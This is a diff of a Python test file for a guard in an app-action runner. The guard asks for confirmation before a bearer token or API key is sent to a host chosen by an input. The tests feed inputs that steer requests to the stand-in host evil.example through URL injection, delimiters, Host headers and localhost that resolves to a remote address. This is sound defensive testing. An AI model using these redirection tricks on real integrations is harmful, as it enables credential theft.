@@ -9,7 +9,7 @@ from kustomer_nb import App, load
 from kustomer_nb.errors import GuardError
 from kustomer_nb.run.guards import HIDDEN_HOST
 from kustomer_nb.widgets import RunPanel
-from tests.run.machines import Everywhere, Written, resolving
+from tests.run.services import AnyHostService, WriteConfig, resolving
 from tests.samples import an_action, an_app, asking
 
 SETTINGS = {"token": "s3cr3t-t0ken"}
@@ -19,8 +19,13 @@ KEYS = {"token": {"key": "shop.default.token"}}
 
 def calling(uri: str, *, kind: str | None = "secret", **template: Any) -> App:
     """Return an app whose one action sends the setting ``token`` in a header, and takes any inputs."""
-    whole = {"uri": uri, "method": "get", "headers": {"authorization": "Bearer {{{token}}}"}, **template}
-    action = an_action(appSettings=KEYS, inputTemplate=whole, sampleOutputContext={})
+    input_template = {
+        "uri": uri,
+        "method": "get",
+        "headers": {"authorization": "Bearer {{{token}}}"},
+        **template,
+    }
+    action = an_action(appSettings=KEYS, inputTemplate=input_template, sampleOutputContext={})
     declared = {} if kind is None else {"default": {"token": {"type": kind, "defaultValue": ""}}}
     return load(an_app(action, settings=declared))
 
@@ -28,7 +33,7 @@ def calling(uri: str, *, kind: str | None = "secret", **template: Any) -> App:
 @pytest.mark.parametrize(
     ("app", "inputs", "host"),
     [
-        pytest.param(calling("{{{x}}}"), EVIL, "evil.example", id="the whole address"),
+        pytest.param(calling("{{{x}}}"), EVIL, "evil.example", id="the whole URL"),
         pytest.param(calling("/#x"), EVIL, "evil.example", id="as a reference"),
         pytest.param(
             calling("https://{{{x}}}.a.com/"), {"x": "evil.example/?"}, "evil.example", id="a delimiter"
@@ -50,25 +55,28 @@ def calling(uri: str, *, kind: str | None = "secret", **template: Any) -> App:
             calling("{{{x}}}?a={{{token}}}", headers={}), EVIL, "evil.example", id="in the uri itself"
         ),
         pytest.param(
-            calling("{{{x}}}", kind=None, headers={"x-a": "/#token"}), EVIL, "evil.example", id="of no type"
+            calling("{{{x}}}", kind=None, headers={"x-a": "/#token"}),
+            EVIL,
+            "evil.example",
+            id="no type",
         ),
-        pytest.param(calling("{{{x}}}", kind="string"), EVIL, "evil.example", id="text for authorization"),
+        pytest.param(calling("{{{x}}}", kind="string"), EVIL, "evil.example", id="string for authorization"),
         pytest.param(
             calling("{{{x}}}", kind="string", headers={}, qs={"api_key": "/#token"}),
             EVIL,
             "evil.example",
-            id="text for a key",
+            id="string for a key",
         ),
         pytest.param(
             calling("{{{x}}}", kind="string", headers={}, json={"login": {"apiKey": "/#token"}}),
             EVIL,
             "evil.example",
-            id="text for a key in the body",
+            id="string for a key in the body",
         ),
     ],
 )
 def test_a_secret_goes_to_a_host_that_an_input_chose_once_that_is_confirmed(
-    app: App, inputs: dict[str, Any], host: str, service: Everywhere
+    app: App, inputs: dict[str, Any], host: str, service: AnyHostService
 ) -> None:
     action = app.action()
 
@@ -98,14 +106,14 @@ API = "https://api.shop.com"
     ],
 )
 @pytest.mark.parametrize("method", ["get", "post"])
-def test_what_inputs_choose_beside_the_host_is_confirmed_by_its_own_name(
+def test_a_chosen_port_scheme_or_header_is_confirmed_by_its_own_name(
     uri: str,
     headers: dict[str, str],
     value: str,
     name: str,
     pointer: str,
     method: str,
-    service: Everywhere,
+    service: AnyHostService,
 ) -> None:
     sent = {"authorization": "Bearer {{{token}}}", **headers}
     action = calling(uri, method=method, headers=sent).action()
@@ -121,7 +129,7 @@ def test_what_inputs_choose_beside_the_host_is_confirmed_by_its_own_name(
     assert service.hosts == ["api.shop.com"] * 2
 
 
-def test_a_confirmed_port_confirms_no_other_one(service: Everywhere) -> None:
+def test_a_confirmed_port_does_not_confirm_another_one(service: AnyHostService) -> None:
     action = calling("https://api.shop.com{{{x}}}/").action()
     arguments = {"settings": SETTINGS, "transport": service.transport}
 
@@ -132,7 +140,7 @@ def test_a_confirmed_port_confirms_no_other_one(service: Everywhere) -> None:
         action.run({"x": ":9999"}, **arguments)
 
 
-def test_a_confirmed_host_is_asked_about_again_without_tls(service: Everywhere) -> None:
+def test_a_confirmed_host_needs_confirmation_again_without_tls(service: AnyHostService) -> None:
     action = calling("{{{x}}}").action()
     arguments = {"settings": SETTINGS, "transport": service.transport}
 
@@ -142,19 +150,19 @@ def test_a_confirmed_host_is_asked_about_again_without_tls(service: Everywhere) 
 
 
 @pytest.mark.parametrize(
-    ("hosts", "is_asked"),
+    ("hosts", "needs_confirmation"),
     [
         pytest.param('["api.shop.com"]', True, id="another host is listed"),
         pytest.param('["*.example", "api.shop.com"]', False, id="the header's is too"),
     ],
 )
-def test_a_host_header_is_held_to_the_allowed_hosts(
-    hosts: str, is_asked: bool, in_project: Written, service: Everywhere
+def test_allowed_hosts_apply_to_a_host_header(
+    hosts: str, needs_confirmation: bool, in_project: WriteConfig, service: AnyHostService
 ) -> None:
     in_project(f"[profiles.p]\nallowed_hosts = {hosts}\n")
     action = calling(API, headers={"host": "{{{x}}}", "x-api-key": "{{{token}}}"}).action()
 
-    with pytest.raises(GuardError, match="KNB834") if is_asked else nullcontext():
+    with pytest.raises(GuardError, match="KNB834") if needs_confirmation else nullcontext():
         action.run({"x": "evil.example"}, settings=SETTINGS, profile="p", transport=service.transport)
 
 
@@ -175,8 +183,8 @@ TOKEN = "sk_live_51H8xY2eZvKYlo2C"
         pytest.param("{{{x}}}", {"data": {"client_secret": TOKEN}}, "data/client_secret", id="a body"),
     ],
 )
-def test_a_token_that_is_written_out_is_a_secret(
-    uri: str, template: dict[str, Any], pointer: str, service: Everywhere
+def test_a_literal_token_is_a_secret(
+    uri: str, template: dict[str, Any], pointer: str, service: AnyHostService
 ) -> None:
     value = "evil.example" if "@" in uri else EVIL["x"]
     action = asking(uri.replace("{token}", TOKEN), template=template)
@@ -199,24 +207,24 @@ def test_a_token_that_is_written_out_is_a_secret(
         pytest.param({"headers": {"idempotency-key": TOKEN}}, id="no key of a service"),
     ],
 )
-def test_what_is_no_token_may_go_anywhere(template: dict[str, Any], service: Everywhere) -> None:
+def test_a_request_without_a_token_may_go_anywhere(template: dict[str, Any], service: AnyHostService) -> None:
     asking("{{{x}}}", template=template).run(EVIL, transport=service.transport)
 
     assert service.hosts == ["evil.example"]
 
 
-def test_a_preview_says_that_a_run_would_ask() -> None:
+def test_a_preview_warns_that_a_run_needs_confirmation() -> None:
     action = calling("{{{x}}}").action()
 
-    shown = action.render(EVIL, settings=SETTINGS).diagnostics
+    diagnostics = action.render(EVIL, settings=SETTINGS).diagnostics
     ordinary = action.render({"x": "http://127.0.0.1/"}, settings=SETTINGS).diagnostics
 
-    assert [(finding.code, finding.pointer) for finding in shown] == [("KNB612", "/inputTemplate/uri")]
-    assert all(part in shown[0].message for part in ("`x`", "evil.example", "$shop.default.token"))
+    assert [(finding.code, finding.pointer) for finding in diagnostics] == [("KNB612", "/inputTemplate/uri")]
+    assert all(part in diagnostics[0].message for part in ("`x`", "evil.example", "$shop.default.token"))
     assert ordinary.codes == []
 
 
-def test_an_output_of_a_step_is_an_input(service: Everywhere) -> None:
+def test_an_output_of_a_step_is_an_input(service: AnyHostService) -> None:
     arguments: dict[str, Any] = {"settings": SETTINGS, "steps": {"find": {"url": EVIL["x"]}}}
 
     with pytest.raises(GuardError) as caught:
@@ -226,7 +234,7 @@ def test_an_output_of_a_step_is_an_input(service: Everywhere) -> None:
     assert "evil.example" in str(caught.value)
 
 
-def test_a_host_is_confirmed_once_for_an_app(service: Everywhere) -> None:
+def test_a_host_is_confirmed_once_for_an_app(service: AnyHostService) -> None:
     app = calling("{{{x}}}")
 
     def run(uri: str, confirm: str | None = None) -> None:
@@ -246,23 +254,25 @@ def test_a_host_is_confirmed_once_for_an_app(service: Everywhere) -> None:
         pytest.param(calling("https://{{{x}}}.shop.com/"), {"x": "eu"}, id="one label"),
         pytest.param(calling("https://api.shop.com/{{{x}}}"), {"x": "@evil.example"}, id="a path"),
         pytest.param(calling("https://api.shop.com{{{x}}}"), {"x": "/orders"}, id="a path with its slash"),
-        pytest.param(calling("{{{x}}}", headers={"accept": "*/*"}), EVIL, id="no setting goes along"),
+        pytest.param(calling("{{{x}}}", headers={"accept": "*/*"}), EVIL, id="no setting is sent"),
         pytest.param(
-            calling("{{{x}}}", kind="string", headers={"x-shop": "{{{token}}}"}), EVIL, id="no secret does"
+            calling("{{{x}}}", kind="string", headers={"x-shop": "{{{token}}}"}), EVIL, id="no secret is sent"
         ),
         pytest.param(calling("https://{{{token}}}/", headers={}), {}, id="the host of a setting"),
-        pytest.param(calling("{{{x}}}"), {"x": "http://127.0.0.1:8000/"}, id="this machine"),
-        pytest.param(calling("{{{x}}}"), {"x": "http://[::1]/"}, id="this machine by IPv6"),
-        pytest.param(calling("{{{x}}}"), {"x": "http://localhost/"}, id="this machine by name"),
+        pytest.param(calling("{{{x}}}"), {"x": "http://127.0.0.1:8000/"}, id="loopback"),
+        pytest.param(calling("{{{x}}}"), {"x": "http://[::1]/"}, id="localhost by IPv6"),
+        pytest.param(calling("{{{x}}}"), {"x": "http://localhost/"}, id="localhost by name"),
     ],
 )
-def test_an_ordinary_host_is_not_asked_about(app: App, inputs: dict[str, Any], service: Everywhere) -> None:
+def test_an_ordinary_host_needs_no_confirmation(
+    app: App, inputs: dict[str, Any], service: AnyHostService
+) -> None:
     app.action().run(inputs, settings=SETTINGS, transport=service.transport)
 
     assert len(service.hosts) == 1
 
 
-def test_the_token_of_an_app_account_is_a_secret(service: Everywhere) -> None:
+def test_the_token_of_an_app_account_is_a_secret(service: AnyHostService) -> None:
     action = asking("{{{x}}}", appAccountName="default")
 
     with pytest.raises(GuardError) as caught:
@@ -273,31 +283,33 @@ def test_the_token_of_an_app_account_is_a_secret(service: Everywhere) -> None:
 
 
 @pytest.mark.parametrize(
-    ("profile", "is_asked"),
+    ("profile", "needs_confirmation"),
     [
         pytest.param('allowed_hosts = ["*.example"]', False, id="a list of hosts ends the question"),
         pytest.param('guard = "none"', True, id="that methods are free says nothing of hosts"),
         pytest.param('hosts = { "https://evil.example" = "https://a.shop.com" }', False, id="sent elsewhere"),
-        pytest.param('hosts = { "https://a.example" = "https://a.shop.com" }', True, id="another one is"),
+        pytest.param('hosts = { "https://a.example" = "https://a.shop.com" }', True, id="another origin"),
     ],
 )
-def test_what_a_profile_says_of_hosts_counts(
-    profile: str, is_asked: bool, in_project: Written, service: Everywhere
+def test_the_hosts_of_a_profile_apply(
+    profile: str, needs_confirmation: bool, in_project: WriteConfig, service: AnyHostService
 ) -> None:
     in_project(f"[profiles.p]\n{profile}\n")
 
-    with pytest.raises(GuardError, match="KNB834") if is_asked else nullcontext():
+    with pytest.raises(GuardError, match="KNB834") if needs_confirmation else nullcontext():
         calling("{{{x}}}").action().run(EVIL, settings=SETTINGS, profile="p", transport=service.transport)
 
 
-def test_a_profile_that_guards_this_machine_asks_for_its_host_too(in_project: Written) -> None:
+def test_a_profile_with_a_guard_needs_confirmation_of_localhost_too(in_project: WriteConfig) -> None:
     in_project('[profiles.p]\nguard = "confirm"\n')
 
     with pytest.raises(GuardError, match="KNB834"):
         calling("{{{x}}}").action().run({"x": "http://127.0.0.1/"}, settings=SETTINGS, profile="p")
 
 
-def test_the_name_of_the_host_confirms_the_method_too(in_project: Written, service: Everywhere) -> None:
+def test_the_name_of_the_host_confirms_the_method_too(
+    in_project: WriteConfig, service: AnyHostService
+) -> None:
     in_project("[profiles.p]\n")
     arguments = {"settings": SETTINGS, "profile": "p", "transport": service.transport}
     action = calling("{{{x}}}", method="post").action()
@@ -313,8 +325,8 @@ def test_the_name_of_the_host_confirms_the_method_too(in_project: Written, servi
 
 
 @pytest.mark.parametrize("method", ["post", "delete", "put"])
-def test_the_second_run_is_confirmed_as_the_first_was(
-    method: str, in_project: Written, service: Everywhere
+def test_the_second_run_is_confirmed_like_the_first(
+    method: str, in_project: WriteConfig, service: AnyHostService
 ) -> None:
     in_project('[profiles.p]\nguard = "confirm"\n')
     action = calling("https://{{{x}}}/", method=method).action()
@@ -330,15 +342,15 @@ def test_the_second_run_is_confirmed_as_the_first_was(
 @pytest.mark.parametrize(
     ("app", "inputs"),
     [
-        pytest.param(calling("{{{x}}}", method="post", headers={}), EVIL, id="no secret goes along"),
+        pytest.param(calling("{{{x}}}", method="post", headers={}), EVIL, id="no secret is sent"),
         pytest.param(calling("https://evil.example/", method="post"), {}, id="no input chose the host"),
         pytest.param(
             calling("https://{{{x}}}.example/", method="post", headers={}), {"x": "evil"}, id="neither"
         ),
     ],
 )
-def test_the_name_of_the_host_confirms_nothing_else_for_a_profile(
-    app: App, inputs: dict[str, Any], in_project: Written, service: Everywhere
+def test_the_name_of_the_host_does_not_confirm_a_profile(
+    app: App, inputs: dict[str, Any], in_project: WriteConfig, service: AnyHostService
 ) -> None:
     in_project('[profiles.p]\nguard = "confirm"\n')
 
@@ -352,15 +364,15 @@ def test_the_name_of_the_host_confirms_nothing_else_for_a_profile(
 
 @pytest.mark.parametrize("confirm", ["api.shop.com", "API.shop.com", "Api.Shop.COM"])
 @pytest.mark.parametrize("uri", ["https://api.shop.com/", "https://API.SHOP.com/"])
-def test_the_name_of_a_host_is_compared_without_case(confirm: str, uri: str, service: Everywhere) -> None:
+def test_the_name_of_a_host_is_compared_without_case(confirm: str, uri: str, service: AnyHostService) -> None:
     asking(uri, "post").run(confirm=confirm, transport=service.transport)
 
     assert len(service.hosts) == 1
 
 
 @pytest.mark.parametrize("confirm", ["shop.com", "api.shop.com:443", "LIVE", ""])
-def test_another_name_confirms_no_host_and_no_profile(
-    confirm: str, in_project: Written, service: Everywhere
+def test_another_name_confirms_neither_host_nor_profile(
+    confirm: str, in_project: WriteConfig, service: AnyHostService
 ) -> None:
     in_project("[profiles.live]\n")
 
@@ -371,7 +383,7 @@ def test_another_name_confirms_no_host_and_no_profile(
             )
 
 
-def test_only_a_preview_says_that_a_run_would_ask(service: Everywhere) -> None:
+def test_only_a_preview_warns_that_a_run_needs_confirmation(service: AnyHostService) -> None:
     action = calling("{{{x}}}").action()
 
     before = action.render(EVIL, settings=SETTINGS).diagnostics.codes
@@ -389,7 +401,7 @@ def test_only_a_preview_says_that_a_run_would_ask(service: Everywhere) -> None:
         pytest.param("https://eu.shop.com/", {}, "eu.shop.com", id="the author's"),
     ],
 )
-def test_a_refusal_names_what_confirms_and_no_words_for_it(
+def test_a_refusal_has_the_name_that_confirms_unless_it_is_hidden(
     uri: str, settings: dict[str, str], name: str
 ) -> None:
     keys = {"site": {"key": "shop.default.site"}}
@@ -406,15 +418,15 @@ def test_a_refusal_names_what_confirms_and_no_words_for_it(
 
 
 @pytest.mark.parametrize("mode", ["sample", "fault:429"])
-def test_where_nothing_is_sent_nobody_is_asked(mode: str) -> None:
+def test_a_mode_that_sends_nothing_needs_no_confirmation(mode: str) -> None:
     assert calling("{{{x}}}").action().run(EVIL, settings=SETTINGS, mode=mode).mode == mode
 
 
 @pytest.mark.parametrize("addresses", [("203.0.113.5",), ("127.0.0.1", "203.0.113.5")])
-def test_a_chosen_localhost_that_is_another_machine_is_asked_about(addresses: tuple[str, ...]) -> None:
-    line = resolving(localhost=addresses)
+def test_a_chosen_localhost_that_is_remote_needs_confirmation(addresses: tuple[str, ...]) -> None:
+    transport = resolving(localhost=addresses)
 
     with pytest.raises(GuardError) as caught:
-        calling("{{{x}}}").action().run({"x": "http://localhost/"}, settings=SETTINGS, transport=line)
+        calling("{{{x}}}").action().run({"x": "http://localhost/"}, settings=SETTINGS, transport=transport)
 
     assert (caught.value.diagnostics.codes, caught.value.name) == (["KNB834"], "localhost")
